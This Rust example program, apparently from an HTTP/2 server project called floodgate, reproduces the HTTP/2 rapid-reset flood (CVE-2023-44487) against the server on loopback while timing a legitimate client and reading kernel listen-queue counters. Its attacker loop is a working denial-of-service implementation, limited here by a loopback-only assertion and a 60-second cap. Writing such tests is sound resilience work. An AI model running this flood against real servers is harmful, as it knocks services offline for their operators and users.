//! An HTTP/2 rapid-reset flood (CVE-2023-44487) against a floodgate on loopback, beside a
//! legitimate HTTP/1.1 client whose request latencies it reports, for the investigation in
//! docs/performance.md ("Rapid reset and the accept queue").
//!
//!     cargo run --release --example rapid_reset -- ADDR SECONDS ATTACKERS
//!
//! `ATTACKERS` tasks each open an h2c connection to `ADDR` (127.0.0.1:PORT only), send streams
//! and reset each at once until floodgate closes the connection, then connect again, for
//! `SECONDS` (at most 60). Meanwhile one client sends a GET every 20 ms on a new connection
//! each time (so a dropped SYN shows) and prints its latency percentiles, with the kernel's
//! listen-queue counters (`ListenOverflows`, `ListenDrops` from /proc/net/netstat) before and
//! after.

use std::time::{Duration, Instant};

use bytes::Bytes;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Streams sent before they are reset.
const BATCH: usize = 32;

fn listen_counters() -> (u64, u64) {
    let text = std::fs::read_to_string("/proc/net/netstat").unwrap_or_default();
    let mut lines = text.lines();
    while let (Some(names), Some(values)) = (lines.next(), lines.next()) {
        if !names.starts_with("TcpExt:") {
            continue;
        }
        let pairs: Vec<(&str, &str)> = names
            .split_whitespace()
            .zip(values.split_whitespace())
            .collect();
        let get = |key: &str| {
            pairs
                .iter()
                .find(|(n, _)| *n == key)
                .and_then(|(_, v)| v.parse().ok())
                .unwrap_or(0)
        };
        return (get("ListenOverflows"), get("ListenDrops"));
    }
    (0, 0)
}

async fn attacker(addr: String, until: Instant) -> (u64, u64) {
    let (mut connections, mut streams) = (0, 0);
    while Instant::now() < until {
        let Ok(tcp) = TcpStream::connect(&addr).await else {
            continue;
        };
        connections += 1;
        let Ok((mut client, connection)) = h2::client::Builder::new()
            .max_concurrent_reset_streams(100_000)
            .handshake::<_, Bytes>(tcp)
            .await
        else {
            continue;
        };
        let driver = tokio::spawn(connection);
        let uri = format!("http://{addr}/flood");
        'connection: while Instant::now() < until {
            // A batch of streams goes out (the yield lets the connection write their HEADERS),
            // then each is reset: what CVE-2023-44487 does.
            let mut batch = Vec::with_capacity(BATCH);
            for _ in 0..BATCH {
                let Ok(ready) = client.clone().ready().await else {
                    break 'connection;
                };
                client = ready;
                let request = http::Request::get(uri.as_str()).body(()).expect("request");
                match client.send_request(request, true) {
                    Ok((_response, stream)) => batch.push(stream),
                    Err(_) => break 'connection,
                }
            }
            tokio::task::yield_now().await;
            for mut stream in batch {
                stream.send_reset(h2::Reason::CANCEL);
                streams += 1;
            }
            tokio::task::yield_now().await;
            if driver.is_finished() {
                break;
            }
        }
        driver.abort();
    }
    (connections, streams)
}

async fn legitimate(addr: String, until: Instant) -> Vec<Duration> {
    let mut latencies = Vec::new();
    while Instant::now() < until {
        let started = Instant::now();
        if let Ok(mut tcp) = TcpStream::connect(&addr).await {
            let request = format!("GET /ok HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n");
            if tcp.write_all(request.as_bytes()).await.is_ok() {
                let mut response = Vec::new();
                let _ = tcp.read_to_end(&mut response).await;
                latencies.push(started.elapsed());
            }
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    latencies
}

#[tokio::main]
async fn main() {
    let args: Vec<String> = std::env::args().collect();
    let [_, addr, seconds, attackers] = &args[..] else {
        eprintln!("usage: rapid_reset ADDR SECONDS ATTACKERS");
        std::process::exit(2);
    };
    assert!(addr.starts_with("127.0.0.1:"), "loopback only");
    let seconds: u64 = seconds.parse::<u64>().expect("SECONDS").min(60);
    let attackers: usize = attackers.parse().expect("ATTACKERS");
    let until = Instant::now() + Duration::from_secs(seconds);
    let before = listen_counters();
    let flood: Vec<_> = (0..attackers)
        .map(|_| tokio::spawn(attacker(addr.clone(), until)))
        .collect();
    // The legitimate client has a thread and a runtime of its own: the flood's tasks must not
    // delay it here, only in floodgate.
    let client_addr = addr.clone();
    let client = std::thread::spawn(move || {
        tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .expect("runtime")
            .block_on(legitimate(client_addr, until))
    });
    let mut latencies = tokio::task::spawn_blocking(move || client.join().expect("client"))
        .await
        .expect("client");
    let (mut connections, mut streams) = (0, 0);
    for task in flood {
        if let Ok((c, s)) = task.await {
            connections += c;
            streams += s;
        }
    }
    let after = listen_counters();
    latencies.sort();
    let at = |p: f64| latencies[((latencies.len() - 1) as f64 * p) as usize];
    println!(
        "attack: {connections} connections, {streams} streams reset; legitimate: {} requests, p50 {:?}, p99 {:?}, max {:?}, over 900 ms: {}; ListenOverflows +{}, ListenDrops +{}",
        latencies.len(),
        at(0.5),
        at(0.99),
        latencies.last().copied().unwrap_or_default(),
        latencies
            .iter()
            .filter(|l| **l > Duration::from_millis(900))
            .count(),
        after.0 - before.0,
        after.1 - before.1,
    );
}
